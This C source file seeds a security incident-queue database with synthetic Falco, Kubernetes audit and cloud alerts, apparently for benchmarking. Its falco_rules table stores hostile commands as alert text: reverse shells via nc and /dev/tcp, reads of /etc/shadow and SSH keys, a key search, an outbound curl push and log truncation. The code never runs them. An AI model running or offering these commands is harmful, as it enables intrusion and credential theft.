/* queue_seed: fills a database with a realistic incident queue for
 * bench/queue.sh, through the server's own code so that every invariant
 * holds by construction:
 *
 *   queue_seed DB INCIDENTS ALERTS ASSIGNEES   seed (DB freshly migrated;
 *                                              ASSIGNEES: comma-separated
 *                                              users holding alerts:manage)
 *   queue_seed --ids DB N ALERTS               print up to N ids of incidents
 *                                              holding exactly ALERTS alerts
 *
 * 1. Alerts: built in memory as struct alert_in (what the ingestion parsers
 *    produce) and stored with svc_ingest_store(), the ingestion endpoints'
 *    own service, about 4,000 alerts per transaction, oldest first. So
 *    correlation, entities, alert_entities, incident_entities, the
 *    incidents' aggregates and titles, the incident_cube counters (by
 *    trigger), history and the audit log are exactly what ingestion
 *    writes. Correlation settings: the defaults (24 h, namespace 30 min).
 * 2. Triage: merges, status/assignee/classification changes and comments
 *    through svc_incidents_merge(), svc_incidents_update() and
 *    svc_incidents_comment(), one transaction each, as the PATCH, merge
 *    and comment endpoints do (history and audit entries included).
 *
 * The data: INCIDENTS planned incidents over ~1.5 years (8-minute slots,
 * newest an hour ago), in 200 namespaces of 5 clusters. Incident i is in
 * namespace i mod 200, so incidents of one namespace are 26.7 h apart:
 * more than the correlation windows, so each planned incident stays one
 * incident. Each has 2..18 alerts (mean ALERTS / INCIDENTS) within 6
 * minutes, of one of four shapes: Falco runtime alerts on one pod (55%),
 * the same plus a "Binary drift detected" alert (20%), Kubernetes audit
 * alerts on a service account (17%), API alerts on a cloud identity (8%).
 * Pods, containers, IP addresses and cloud resources are new per incident;
 * nodes, images, registries and service accounts are shared. Triage by
 * age: ~23% active, ~10% in progress, ~66% resolved (classified, most with
 * a determination), 1% merged; assignees weighted, most active incidents
 * unassigned; a comment on ~20%.
 * Prints progress on stderr and a summary line on stdout. */
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "alert.h"
#include "db.h"
#include "svc_incidents.h"
#include "svc_ingest.h"

#define N_CLUSTERS 5
#define NS_PER_CLUSTER 40
#define N_NS (N_CLUSTERS * NS_PER_CLUSTER)
#define SLOT_MS (8LL * 60 * 1000)
#define SPAN_MS (6LL * 60 * 1000)
#define ALERTS_PER_TX 4000

static const char *const clusters[N_CLUSTERS] = {"prod-eu-1", "prod-us-1", "prod-ap-1", "staging",
                                                 "dev"};
static const char *const ns_names[NS_PER_CLUSTER] = {
    "payments",   "checkout",      "catalog", "identity",   "search",      "orders",
    "shipping",   "inventory",     "pricing", "reviews",    "recommend",   "notifications",
    "billing",    "ledger",        "fraud",   "analytics",  "reporting",   "etl",
    "ingest",     "kafka",         "redis",   "postgres",   "monitoring",  "logging",
    "ingress",    "cert-mgr",      "vault",   "argocd",     "ci-runners",  "batch-jobs",
    "ml-serving", "feature-store", "web",     "mobile-api", "partner-api", "admin",
    "support",    "cms",           "media",   "sandbox",
};
static const char *const deploy_suffix[3] = {"api", "worker", "web"};
static const char *const registries[4] = {"registry.example.com", "docker.io", "ghcr.io",
                                          "quay.io"};

struct rule {
    const char *name;
    enum severity sev;
    enum tactic tactic;
    const char *technique;
    const char *proc;
    const char *cmd;
};
static const struct rule falco_rules[] = {
    {"Terminal shell in container", SEV_LOW, TACTIC_EXECUTION, "T1059", "bash",
     "bash -il -c 'cd /srv && ./manage.py shell'"},
    {"Read sensitive file untrusted", SEV_MEDIUM, TACTIC_CREDENTIAL_ACCESS, "T1555", "cat",
     "cat /etc/shadow /root/.ssh/id_ed25519"},
    {"Launch Package Management Process in Container", SEV_HIGH, TACTIC_EXECUTION, "T1072",
     "apt-get", "apt-get install -y curl netcat-openbsd"},
    {"Unexpected outbound connection destination", SEV_LOW, TACTIC_COMMAND_AND_CONTROL, "T1071",
     "curl", "curl -sS -m 10 https://203.0.113.7/v1/push"},
    {"Clear Log Activities", SEV_MEDIUM, TACTIC_DEFENSE_EVASION, "T1070", "truncate",
     "truncate -s 0 /var/log/app/access.log"},
    {"Search Private Keys or Passwords", SEV_MEDIUM, TACTIC_CREDENTIAL_ACCESS, "T1552.001", "find",
     "find / -name id_rsa -o -name '*.pem'"},
    {"Netcat Remote Code Execution in Container", SEV_MEDIUM, TACTIC_EXECUTION, "T1059", "nc",
     "nc -e /bin/sh 10.42.3.200 4444"},
    {"Redirect STDOUT/STDIN to Network Connection in Container", SEV_HIGH, TACTIC_EXECUTION,
     "T1059", "sh", "sh -i >& /dev/tcp/10.42.9.9/443 0>&1"},
    {"System procs network activity", SEV_INFORMATIONAL, TACTIC_DISCOVERY, "T1046", "sshd",
     "sshd -D -e"},
};
static const struct rule audit_rules[] = {
    {"Secret read by an unusual identity", SEV_MEDIUM, TACTIC_CREDENTIAL_ACCESS, "T1552.007", "get",
     "secrets"},
    {"Exec into a pod", SEV_LOW, TACTIC_EXECUTION, "T1609", "create", "pods/exec"},
    {"ClusterRoleBinding to cluster-admin created", SEV_HIGH, TACTIC_PRIVILEGE_ESCALATION,
     "T1078.004", "create", "clusterrolebindings"},
    {"Anonymous request allowed", SEV_MEDIUM, TACTIC_INITIAL_ACCESS, "T1078", "list", "pods"},
};
static const struct rule api_rules[] = {
    {"Console sign-in from an anonymising proxy", SEV_HIGH, TACTIC_INITIAL_ACCESS, "T1078", "", ""},
    {"Access key used from a new country", SEV_MEDIUM, TACTIC_CREDENTIAL_ACCESS, "T1552", "", ""},
    {"Bucket policy made public", SEV_HIGH, TACTIC_EXFILTRATION, "T1537", "", ""},
};

static uint64_t mix(uint64_t x)
{
    x += 0x9E3779B97F4A7C15ull;
    x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9ull;
    x = (x ^ (x >> 27)) * 0x94D049BB133111EBull;
    return x ^ (x >> 31);
}

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static long long wall_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_REALTIME, &t);
    return (long long)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static struct entity_ref *ent(struct alert_in *a, enum entity_kind kind, const char *name,
                              const char *fmt, ...) __attribute__((format(printf, 4, 5)));
static struct entity_ref *ent(struct alert_in *a, enum entity_kind kind, const char *name,
                              const char *fmt, ...)
{
    char key[ALERT_KEY_MAX];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(key, sizeof(key), fmt, ap);
    va_end(ap);
    struct entity_ref *e = alert_add_entity(a, kind, key, name);
    if (e == NULL) {
        fprintf(stderr, "queue_seed: cannot add entity %s\n", key);
        exit(1);
    }
    return e;
}

/* Fills alert j of incident i. */
static void make_alert(struct alert_in *a, long long i, int j, int count, long long start_ms)
{
    uint64_t h = mix((uint64_t)i), hj = mix(((uint64_t)i << 8) ^ (uint64_t)j ^ 0xa1e47ull);
    int shape = (int)(h % 100);
    int ns = (int)(i % N_NS), cl = ns / NS_PER_CLUSTER;
    const char *cluster = clusters[cl], *nsname = ns_names[ns % NS_PER_CLUSTER];
    int dep = (int)((h >> 8) % 3);
    char deploy[96], pod[128], cid[16], node[64], image[160], ip[32];
    snprintf(deploy, sizeof(deploy), "%s-%s", nsname, deploy_suffix[dep]);
    snprintf(pod, sizeof(pod), "%s-%08llx-%05llx", deploy,
             (unsigned long long)(h >> 16) & 0xffffffffull,
             (unsigned long long)(h >> 48) & 0xfffffull);
    snprintf(cid, sizeof(cid), "%012llx", (unsigned long long)mix(h) & 0xffffffffffffull);
    snprintf(node, sizeof(node), "ip-10-%d-%d-%d.compute.internal", cl, (int)((h >> 20) % 32),
             (int)((h >> 28) % 250) + 2);
    const char *reg = registries[(ns + dep) % 4];
    snprintf(image, sizeof(image), "%s/%s/%s:%d.%d.%d", reg, nsname, deploy_suffix[dep],
             1 + (int)((h >> 36) % 4), (int)((h >> 40) % 20), (int)((h >> 44) % 10));
    /* A public address of this incident only (documentation and test ranges
     * would repeat too soon). */
    snprintf(ip, sizeof(ip), "%d.%d.%d.%d", 100 + (int)(i % 23), (int)((i >> 5) % 250) + 1,
             (int)((i >> 13) % 250) + 1, (int)(i % 250) + 1);

    a->first_ms = a->last_ms = start_ms + (SPAN_MS / count) * j + (long long)(hj % 1000);
    char id[64];
    snprintf(id, sizeof(id), "seed-%lld-%d", i, j);
    const char *parts[] = {"seed", id};
    alert_key(a->key, parts, 2);

    const struct rule *r;
    json_t *ev;
    if (shape < 75) {
        int drift = shape >= 55 && j == count / 2;
        r = &falco_rules[(hj >> 8) % (sizeof(falco_rules) / sizeof(falco_rules[0]))];
        a->provider = drift ? PROV_STOCKADE_RULES : PROV_FALCO;
        snprintf(a->cluster, sizeof(a->cluster), "%s", cluster);
        ent(a, ENT_CLUSTER, cluster, "cluster:%s", cluster);
        ent(a, ENT_NAMESPACE, nsname, "namespace:%s/%s", cluster, nsname);
        ent(a, ENT_NODE, node, "node:%s/%s", cluster, node);
        struct entity_ref *p = ent(a, ENT_POD, pod, "pod:%s/%s/%s", cluster, nsname, pod);
        p->props = json_pack("{s:s, s:s, s:s, s:s}", "namespace", nsname, "cluster", cluster,
                             "image", image, "container_id", cid);
        struct entity_ref *c = ent(a, ENT_CONTAINER, deploy, "container:%s/%s", cluster, cid);
        c->props = json_pack("{s:s, s:s, s:s}", "image", image, "pod", pod, "namespace", nsname);
        ent(a, ENT_IMAGE, image, "image:%s", image);
        ent(a, ENT_REGISTRY, reg, "registry:%s", reg);
        if (r->tactic == TACTIC_COMMAND_AND_CONTROL) {
            ent(a, ENT_IP, ip, "ip:%s", ip);
        }
        char cmd[256];
        snprintf(cmd, sizeof(cmd), "%s --request-id=%016llx", r->cmd, (unsigned long long)hj);
        if (drift) {
            snprintf(a->rule, sizeof(a->rule), "stockade.binary_drift");
            snprintf(a->title, sizeof(a->title), "Binary drift detected");
            a->severity = SEV_HIGH;
            a->tactic = TACTIC_EXECUTION;
            char d[512];
            snprintf(d, sizeof(d),
                     "/tmp/.x/kworkerd was not part of the image of container %s (%s)", deploy,
                     image);
            a->description = strdup(d);
        } else {
            snprintf(a->rule, sizeof(a->rule), "%s", r->name);
            snprintf(a->title, sizeof(a->title), "%s", r->name);
            a->severity = r->sev;
            a->tactic = r->tactic;
            snprintf(a->technique, sizeof(a->technique), "%s", r->technique);
            char d[768];
            snprintf(d, sizeof(d),
                     "%s | evt_type=execve user=root process=%s command=%s container_id=%s "
                     "container_name=%s image=%s k8s_pod_name=%s k8s_ns_name=%s",
                     r->name, r->proc, cmd, cid, deploy, image, pod, nsname);
            a->description = strdup(d);
        }
        ev = json_pack("{s:{s:s, s:s, s:I, s:s}, s:{s:s, s:I}, s:{s:s, s:s, s:s},"
                       " s:{s:s, s:s}, s:{s:s, s:s, s:s, s:[s, s], s:s}}",
                       "process", "name", r->proc, "cmdline", cmd, "pid",
                       (json_int_t)(1000 + hj % 60000), "user", "root", "parent", "name",
                       "containerd-shim", "pid", (json_int_t)(1 + hj % 999), "container", "id", cid,
                       "name", deploy, "image", image, "pod", "name", pod, "namespace", nsname,
                       "falco", "rule", r->name, "priority",
                       a->severity == SEV_HIGH ? "Error" : "Warning", "source", "syscall", "tags",
                       "container", "mitre", "hostname", node);
    } else if (shape < 92) {
        r = &audit_rules[(hj >> 8) % (sizeof(audit_rules) / sizeof(audit_rules[0]))];
        a->provider = PROV_K8S_AUDIT;
        snprintf(a->cluster, sizeof(a->cluster), "%s", cluster);
        char sa[160];
        snprintf(sa, sizeof(sa), "system:serviceaccount:%s:%s", nsname, deploy);
        snprintf(a->rule, sizeof(a->rule), "%s", r->name);
        snprintf(a->title, sizeof(a->title), "%s", r->name);
        a->severity = r->sev;
        a->tactic = r->tactic;
        snprintf(a->technique, sizeof(a->technique), "%s", r->technique);
        ent(a, ENT_CLUSTER, cluster, "cluster:%s", cluster);
        ent(a, ENT_NAMESPACE, nsname, "namespace:%s/%s", cluster, nsname);
        ent(a, ENT_IDENTITY, sa, "identity:%s/%s", cluster, sa);
        ent(a, ENT_IP, ip, "ip:%s", ip);
        struct entity_ref *p = ent(a, ENT_POD, pod, "pod:%s/%s/%s", cluster, nsname, pod);
        p->props = json_pack("{s:s, s:s}", "namespace", nsname, "cluster", cluster);
        char d[512];
        snprintf(d, sizeof(d), "%s %s %s/%s in %s from %s (kubectl/v1.30.2)", sa, r->proc, r->cmd,
                 pod, nsname, ip);
        a->description = strdup(d);
        char audit_id[48];
        snprintf(audit_id, sizeof(audit_id), "%08llx-%04llx-4%03llx-a%03llx-%012llx",
                 (unsigned long long)(hj >> 32), (unsigned long long)(hj >> 16) & 0xffff,
                 (unsigned long long)(hj >> 4) & 0xfff, (unsigned long long)hj & 0xfff,
                 (unsigned long long)mix(hj) & 0xffffffffffffull);
        ev = json_pack("{s:{s:s, s:s, s:s, s:s, s:s, s:[s], s:s, s:i}}", "audit", "auditID",
                       audit_id, "verb", r->proc, "resource", r->cmd, "namespace", nsname, "user",
                       sa, "sourceIPs", ip, "userAgent", "kubectl/v1.30.2 (linux/amd64)",
                       "responseCode", 200);
    } else {
        r = &api_rules[(hj >> 8) % (sizeof(api_rules) / sizeof(api_rules[0]))];
        a->provider = PROV_API;
        char who[96], res[160];
        snprintf(who, sizeof(who), "arn:aws:iam::4711:user/svc-%06lld", i);
        snprintf(res, sizeof(res), "aws/arn:aws:s3:::backup-%06lld", i);
        snprintf(a->rule, sizeof(a->rule), "%s", r->name);
        snprintf(a->title, sizeof(a->title), "%s", r->name);
        a->severity = r->sev;
        a->tactic = r->tactic;
        snprintf(a->technique, sizeof(a->technique), "%s", r->technique);
        ent(a, ENT_IDENTITY, who, "identity:%s", who);
        ent(a, ENT_CLOUD_RESOURCE, res, "cloud-resource:%s", res);
        ent(a, ENT_IP, ip, "ip:%s", ip);
        char d[512];
        snprintf(d, sizeof(d), "%s: %s acted on %s from %s", r->name, who, res, ip);
        a->description = strdup(d);
        ev = json_pack("{s:{s:s, s:s, s:s, s:s}}", "cloudtrail", "eventName", "GetObject",
                       "userIdentity", who, "sourceIPAddress", ip, "awsRegion", "eu-west-1");
    }
    a->evidence = ev;
    if (a->description == NULL || a->evidence == NULL) {
        fprintf(stderr, "queue_seed: out of memory\n");
        exit(1);
    }
}

static struct db *open_db(const char *path)
{
    struct db *db = NULL;
    struct stk_error err;
    stk_error_clear(&err);
    if (db_open(path, &db, &err) != STK_OK) {
        fprintf(stderr, "queue_seed: %s\n", err.msg);
        exit(1);
    }
    /* Seeding only: a crash means seeding again, so no fsync (the rows
     * written are the same). */
    sqlite3_exec(db_handle(db), "PRAGMA synchronous=OFF", NULL, NULL, NULL);
    return db;
}

static int ids_mode(const char *path, int n, int alerts)
{
    struct db *db = open_db(path);
    sqlite3_stmt *st;
    if (sqlite3_prepare_v2(db_handle(db),
                           "SELECT id FROM incidents WHERE status != 3 AND alert_count = ?"
                           " ORDER BY (id * 2654435761) % 1000003 LIMIT ?",
                           -1, &st, NULL) != SQLITE_OK) {
        fprintf(stderr, "queue_seed: %s\n", sqlite3_errmsg(db_handle(db)));
        return 1;
    }
    sqlite3_bind_int(st, 1, alerts);
    sqlite3_bind_int(st, 2, n);
    while (sqlite3_step(st) == SQLITE_ROW) {
        printf("%lld\n", (long long)sqlite3_column_int64(st, 0));
    }
    sqlite3_finalize(st);
    db_free(db);
    return 0;
}

static void check(enum stk_err rc, const struct stk_error *err, const char *what)
{
    if (rc != STK_OK) {
        fprintf(stderr, "queue_seed: %s: %s\n", what, err->msg);
        exit(1);
    }
}

int main(int argc, char **argv)
{
    if (argc == 5 && strcmp(argv[1], "--ids") == 0) {
        return ids_mode(argv[2], atoi(argv[3]), atoi(argv[4]));
    }
    if (argc != 5) {
        fprintf(stderr, "usage: queue_seed DB INCIDENTS ALERTS ASSIGNEES\n"
                        "       queue_seed --ids DB N ALERTS\n");
        return 2;
    }
    long long n_inc = atoll(argv[2]), n_alerts = atoll(argv[3]);
    if (n_inc < 1 || n_alerts < 2 * n_inc || n_alerts > 18 * n_inc) {
        fprintf(stderr, "queue_seed: ALERTS must be 2 to 18 times INCIDENTS\n");
        return 2;
    }
    char *names_buf = strdup(argv[4]);
    const char *assignees[32];
    int n_assignees = 0;
    char *save = NULL;
    for (char *t = strtok_r(names_buf, ",", &save); t != NULL && n_assignees < 32;
         t = strtok_r(NULL, ",", &save)) {
        assignees[n_assignees++] = t;
    }
    if (n_assignees == 0) {
        fprintf(stderr, "queue_seed: no assignees\n");
        return 2;
    }
    struct db *db = open_db(argv[1]);
    struct stk_error err;
    stk_error_clear(&err);

    /* Alert counts: 2..18, then nudged until they sum to n_alerts. */
    int *count = malloc((size_t)n_inc * sizeof(int));
    long long sum = 0;
    for (long long i = 0; i < n_inc; i++) {
        count[i] = 2 + (int)(mix((uint64_t)i ^ 0xc0ffeeull) % 17);
        sum += count[i];
    }
    for (uint64_t k = 1; sum != n_alerts; k++) {
        long long i = (long long)(mix(k ^ 0xbeefull) % (uint64_t)n_inc);
        if (sum < n_alerts && count[i] < 18) {
            count[i]++;
            sum++;
        } else if (sum > n_alerts && count[i] > 2) {
            count[i]--;
            sum--;
        }
    }

    /* ---- 1. alerts through svc_ingest_store ---- */
    struct ingest_settings s = {.window_ms = 86400LL * 1000, .ns_window_ms = 1800LL * 1000};
    struct actor forwarder = {.name = "token:seed", .kind = "token", .ip = "127.0.0.1"};
    long long end_ms = wall_ms() - 3600LL * 1000;
    double t0 = now_s();
    long long i = 0, stored = 0, batches = 0;
    while (i < n_inc) {
        struct ingest_batch b;
        ingest_batch_init(&b);
        while (i < n_inc && (long long)b.n_alerts + count[i] <= ALERTS_PER_TX + 18) {
            long long start = end_ms - (n_inc - i) * SLOT_MS;
            for (int j = 0; j < count[i]; j++) {
                struct alert_in *a = ingest_batch_add_alert(&b);
                if (a == NULL) {
                    fprintf(stderr, "queue_seed: out of memory\n");
                    return 1;
                }
                make_alert(a, i, j, count[i], start);
            }
            i++;
            if ((long long)b.n_alerts >= ALERTS_PER_TX) {
                break;
            }
        }
        struct ingest_result res;
        check(svc_ingest_store(db, &s, &b, &forwarder, "alerts", &res, &err), &err,
              "storing alerts");
        if (res.alerts_new != (long)b.n_alerts) {
            fprintf(stderr, "queue_seed: %ld of %zu alerts stored\n", res.alerts_new, b.n_alerts);
            return 1;
        }
        stored += res.alerts_new;
        ingest_batch_release(&b);
        if (++batches % 25 == 0 || i == n_inc) {
            fprintf(stderr, "\r[queue_seed] alerts: %lld incidents, %lld alerts, %.0f s   ", i,
                    stored, now_s() - t0);
        }
    }
    double t_alerts = now_s() - t0;
    fprintf(stderr, "\n");

    /* The incidents in planned order (ids follow creation order). */
    long long *ids = malloc((size_t)n_inc * sizeof(long long));
    sqlite3_stmt *st;
    sqlite3_prepare_v2(db_handle(db), "SELECT id FROM incidents ORDER BY id", -1, &st, NULL);
    long long got = 0;
    while (sqlite3_step(st) == SQLITE_ROW && got < n_inc) {
        ids[got++] = sqlite3_column_int64(st, 0);
    }
    sqlite3_finalize(st);
    if (got != n_inc) {
        fprintf(stderr, "queue_seed: correlation made %lld incidents, %lld planned\n", got, n_inc);
        return 1;
    }

    /* ---- 2. triage through the services ---- */
    t0 = now_s();
    long long merged = 0, updated = 0, commented = 0;
    static const int weights[] = {30, 22, 15, 10, 8, 6, 5, 4};
    for (long long k = 0; k < n_inc; k++) {
        uint64_t h = mix((uint64_t)k ^ 0x7a1a6e5ull);
        double age = 1.0 - (double)k / (double)n_inc; /* 1 oldest .. 0 newest */
        /* 1% merged into the incident planned just before (another namespace). */
        if (k > 0 && h % 100 == 0) {
            struct actor by = {.name = assignees[0], .kind = "user", .ip = "127.0.0.1"};
            struct incident out;
            if (svc_incidents_merge(db, &by, ids[k - 1], &ids[k], 1, &out, &err) == STK_OK) {
                merged++;
                continue;
            }
            stk_error_clear(&err); /* the previous one was merged itself: leave it */
        }
        int roll = (int)((h >> 8) % 1000);
        int status;
        if (age > 0.3) {
            status = roll < 900 ? INC_RESOLVED : roll < 930 ? INC_IN_PROGRESS : INC_ACTIVE;
        } else {
            status = roll < 600 ? INC_ACTIVE : roll < 850 ? INC_IN_PROGRESS : INC_RESOLVED;
        }
        int w = (int)((h >> 20) % 100), pick = 0;
        for (int acc = 0; pick < 7 && (acc += weights[pick]) <= w; pick++) {
        }
        const char *who = assignees[pick % n_assignees];
        struct incident_change ch;
        memset(&ch, 0, sizeof(ch));
        if (status != INC_ACTIVE || (h >> 30) % 100 < 40) {
            ch.has_assignee = 1;
            snprintf(ch.assignee, sizeof(ch.assignee), "%s", who);
        }
        if (status != INC_ACTIVE) {
            ch.has_status = 1;
            ch.status = status;
        }
        if (status == INC_RESOLVED) {
            int c = (int)((h >> 40) % 100);
            ch.has_classification = 1;
            ch.classification = c < 20   ? CLASS_TRUE_POSITIVE
                                : c < 50 ? CLASS_INFORMATIONAL
                                         : CLASS_FALSE_POSITIVE;
            const char *const *dets = alert_determinations(ch.classification);
            int nd = 0;
            while (dets[nd] != NULL) {
                nd++;
            }
            if (nd > 0 && (h >> 48) % 10 < 8) {
                ch.has_determination = 1;
                snprintf(ch.determination, sizeof(ch.determination), "%s",
                         dets[(h >> 52) % (uint64_t)nd]);
            }
        }
        if ((h >> 56) % 10 == 0) {
            ch.has_tags = 1;
            snprintf(ch.tags, sizeof(ch.tags), "[\"pci\",\"%s\"]", (h >> 60) % 2 ? "prod" : "vip");
        }
        struct actor by = {.name = who, .kind = "user", .ip = "127.0.0.1"};
        if (ch.has_assignee || ch.has_status || ch.has_tags) {
            struct incident out;
            check(svc_incidents_update(db, &by, ids[k], &ch, &out, &err), &err, "triage");
            updated++;
        }
        if ((h >> 4) % 5 == 0) {
            struct incident_note note;
            check(svc_incidents_comment(db, &by, ids[k],
                                        "Checked the pod's recent deploys and the image "
                                        "provenance; see the linked ticket for the timeline.",
                                        &note, &err),
                  &err, "comment");
            free(note.text);
            commented++;
        }
        if ((k & 0x3fff) == 0 || k == n_inc - 1) {
            fprintf(stderr, "\r[queue_seed] triage: %lld of %lld, %.0f s   ", k + 1, n_inc,
                    now_s() - t0);
        }
    }
    double t_triage = now_s() - t0;
    fprintf(stderr, "\n");
    check(db_checkpoint(db, &err), &err, "checkpoint");
    printf("incidents=%lld alerts=%lld merged=%lld triaged=%lld comments=%lld alerts_s=%.1f "
           "triage_s=%.1f\n",
           n_inc, stored, merged, updated, commented, t_alerts, t_triage);
    db_free(db);
    free(ids);
    free(count);
    free(names_buf);
    return 0;
}
